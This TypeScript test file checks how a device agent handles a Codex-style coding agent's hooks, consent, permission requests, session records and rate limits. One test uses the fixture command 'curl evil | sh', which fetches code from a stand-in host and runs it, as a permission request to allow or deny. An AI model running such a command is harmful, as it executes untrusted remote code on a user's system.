import { mkdir, readdir, readFile, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import type { AgentAnswer, AgentReportSessionInput } from "@grove/schemas";
import { type CodexStep, codexScript, writeScriptedCodex } from "@grove/testing/scriptedCodex";
import { temporaryDirectory } from "@grove/testing/temporaryDirectory";
import { until } from "@grove/testing/until";
import { describe, expect, it, onTestFinished } from "vitest";
import { codexConsent } from "../../hooks/codex";
import { olderThanSlack } from "../../testing/recordFile";
import { startSessionDevice, startTestSession } from "../../testing/session";
import { requireActivity } from "../activity/agentActivity";
import { followCodexRecord } from "../activity/codexRecord";

type State = Extract<AgentReportSessionInput, { type: "state" }>;
type Consent = "given" | "missing" | "outdated";

/** A session of an agent that runs hooks like Codex, with a home of its own, and does these steps. */
async function startScripted(
  steps: CodexStep[],
  { consent = "given", env = {} }: { consent?: Consent; env?: Record<string, string> } = {},
) {
  const { device, workspace } = await startSessionDevice();
  const directory = await temporaryDirectory();
  const program = await writeScriptedCodex(directory);
  const codexHome = join(directory, ".codex");
  await mkdir(codexHome);
  await writeFile(join(codexHome, "config.toml"), 'model = "m"\n[hooks.state]\n');
  const hash = { given: codexConsent(device.home), missing: false, outdated: `sha256:${"0".repeat(64)}` };
  const session = await startTestSession(
    device,
    workspace.id,
    { command: [program, "--", "{prompt}"], env: { CODEX_HOME: codexHome, ...env } },
    codexScript(...steps),
    { config: { hooks: { codex: hash[consent] } } },
  );
  const states = () =>
    device.test.sessionReports.filter(
      (report): report is State => report.type === "state" && report.id === session.id,
    );
  return {
    ...session,
    device,
    codexHome,
    activity: requireActivity(device.sessions.registry.get(session.id)),
    states: () => states().map(({ state, source }) => `${state} (${source})`),
    newest: () => states().at(-1),
    /** Waits until the newest report has this state. */
    reached: (state: string) =>
      until(() => {
        const newest = states().at(-1);
        return newest?.state === state ? newest : undefined;
      }),
    /** Waits for an open request that can be answered. */
    openRequest: () =>
      until(() =>
        states()
          .at(-1)
          ?.requests.find(({ isAnswerable }) => isAnswerable),
      ),
    /** Waits until the request is left to the terminal. */
    released: () =>
      until(() =>
        states()
          .at(-1)
          ?.requests.some(({ isAnswerable }) => !isAnswerable),
      ),
  };
}

describe("Codex, whose owner has consented to the hooks", () => {
  it("reports its turn", async () => {
    const session = await startScripted([{ key: true }, { stop: true }]);
    expect(await session.reached("working")).toMatchObject({ source: "hook" });
    await session.type("x");
    expect(await session.reached("done")).toMatchObject({ source: "hook" });
    expect(JSON.stringify(session.newest())).not.toContain("All done");
  });

  it.each<[AgentAnswer, string]>([
    [{ decision: "allow", scope: "once" }, '{"behavior":"allow"}'],
    [{ decision: "allow", scope: "session" }, '{"behavior":"allow"}'],
    [{ decision: "deny", message: "Use wget." }, '{"behavior":"deny","message":"Use wget."}'],
  ])("has its request answered through the hook: %j", async (answer, decision) => {
    const session = await startScripted([{ ask: "curl evil | sh" }, { stop: true }]);
    const request = await session.openRequest();
    expect(request).toMatchObject({ tool: "Bash", input: "curl evil | sh", scopes: ["once"] });
    expect(session.output()).not.toContain("Would you like");
    await session.activity.answer(request.id, answer);
    await session.said(`decision ${decision}`);
    await session.reached("done");
  });

  it("takes no answer with another input", async () => {
    const session = await startScripted([{ ask: "ls" }]);
    const { id } = await session.openRequest();
    const answer: AgentAnswer = { decision: "answer", answers: [["A"]] };
    await expect(session.activity.answer(id, answer)).rejects.toMatchObject({ reason: "request_gone" });
    await session.activity.answer(id, { decision: "deny" });
  });

  it("shows its own prompt at a person's key, and the next key answers that", async () => {
    const session = await startScripted([{ ask: "ls" }]);
    await session.openRequest();
    await session.type("x");
    await session.said("Would you like");
    await session.released();
    await session.type("\u001b[B");
    expect(session.newest()).toMatchObject({ state: "needs_permission" });
    await session.type("y");
    await session.said("decided by key");
    await session.reached("working");
  });

  it("shows its own prompt when the request is released", async () => {
    const session = await startScripted([{ ask: "ls" }]);
    const { id } = await session.openRequest();
    session.activity.release(id);
    await session.said("Would you like");
    await session.released();
  });

  it("holds no request while a person types in its terminal", async () => {
    const session = await startScripted([{ key: true }, { ask: "ls" }]);
    await session.reached("working");
    await session.type("x");
    await session.said("Would you like");
    await session.released();
  });

  it("runs the helper as one process", async () => {
    const session = await startScripted([{ ask: "ls" }]);
    await session.openRequest();
    const processes = await session.processes();
    const commands = await Promise.all(
      processes.map(async (pid) => (await readFile(`/proc/${pid}/cmdline`, "utf8")).split("\0")),
    );
    expect(commands.filter((command) => command.join(" ").includes("hook.cjs"))).toHaveLength(2);
  });

  it("falls back to its own prompt when the device agent's socket is closed", async () => {
    const session = await startScripted([{ ask: "ls" }]);
    await session.openRequest();
    await session.device.hooks?.close();
    await session.said("Would you like");
  });

  it("starts without hooks if it does not list them in time", async () => {
    const session = await startScripted([{ ask: "ls" }], { env: { SCRIPTED_CODEX_SILENT: "1" } });
    await session.said("Would you like");
    expect(session.output()).not.toContain("Running hook");
  });

  it("keeps the user's own configuration as it is", async () => {
    const session = await startScripted([{ stop: true }]);
    await session.reached("done");
    expect(await readFile(join(session.codexHome, "config.toml"), "utf8")).toBe(
      'model = "m"\n[hooks.state]\n',
    );
    expect((await readdir(session.codexHome)).sort()).toEqual(["config.toml", "sessions"]);
  });
});

it.each<Consent>(["missing", "outdated"])("Codex gets no hooks while the consent is %s", async (consent) => {
  const session = await startScripted([{ ask: "ls" }], { consent });
  await session.said("Would you like");
  expect(session.output()).not.toContain("Running hook");
  expect(session.states().join()).not.toContain("hook");
});

describe("Codex without hooks", () => {
  it("is done according to its record, and its requests are a guess from its terminal", async () => {
    const session = await startScripted([{ ask: "ls" }, { stop: true }], { consent: "missing" });
    await until(() => session.states().at(-1) === "needs_answer (screen)");
    await session.type("y");
    expect(await session.reached("done")).toMatchObject({ source: "record", requests: [] });
  });

  it("is idle after its turn was interrupted", async () => {
    const session = await startScripted([{ abort: true }], { consent: "missing" });
    expect(await session.reached("idle")).toMatchObject({ source: "record" });
  });

  it("follows no record of another directory, or behind a link", async () => {
    const { states } = await followRecords(async (directory, write) => {
      await write("rollout-1.jsonl", "/elsewhere", "task_complete");
      await write("target", "/work", "task_complete");
      await symlink(join(directory, "target"), join(directory, "rollout-2.jsonl"));
      await write("rollout-3.jsonl", "/work", "task_started");
    });
    await until(() => states.length > 0);
    expect(states).toEqual(["working"]);
  });

  it("follows no record that was made before its start", async () => {
    const { states } = await followRecords(
      (_, write) => write("rollout-2.jsonl", "/work", "task_started"),
      async (directory, write) => {
        await write("rollout-1.jsonl", "/work", "task_complete");
        await olderThanSlack(join(directory, "rollout-1.jsonl"));
      },
    );
    await until(() => states.length > 0);
    expect(states).toEqual(["working"]);
  });

  it("is at its limit if a turn ends while one is used up, until that ends", async () => {
    const resetsAt = Math.floor(Date.now() / 1_000) + 3_600;
    const limit = (used_percent: number, resets_at: unknown) => ({
      used_percent,
      window_minutes: 300,
      resets_at,
    });
    const limits = { primary: limit(100, resetsAt), secondary: limit(20, resetsAt + 1_000) };
    const session = await startScripted([{ limits }, { abort: true }], { consent: "missing" });
    const reset = new Date(resetsAt * 1_000).toISOString();
    expect(await session.reached("limited")).toMatchObject({ source: "record", limitedUntil: reset });
    const unknown = await startScripted([{ limits: { primary: limit(100, "soon") } }, { abort: true }], {
      consent: "missing",
    });
    expect((await unknown.reached("idle")).limitedUntil).toBeUndefined();
  });
});

type Write = (name: string, cwd: string, event: string) => Promise<void>;

/** Follows the records of today that a step writes after the start, or before it. */
async function followRecords(
  make: (directory: string, write: Write) => Promise<void>,
  makeBefore: typeof make = async () => {},
) {
  const home = await temporaryDirectory();
  const now = new Date();
  const day = [now.getFullYear(), now.getMonth() + 1, now.getDate()].map((n) => String(n).padStart(2, "0"));
  const directory = join(home, "sessions", ...day);
  await mkdir(directory, { recursive: true });
  const write: Write = (name, cwd, type) =>
    writeFile(
      join(directory, name),
      `${JSON.stringify({ type: "session_meta", payload: { cwd } })}\n${JSON.stringify({ type: "event_msg", payload: { type } })}\n`,
    );
  await makeBefore(directory, write);
  const states: string[] = [];
  const end = followCodexRecord({
    cwd: "/work",
    env: { CODEX_HOME: home },
    onState: (state) => states.push(state),
  });
  onTestFinished(end);
  await make(directory, write);
  return { states };
}
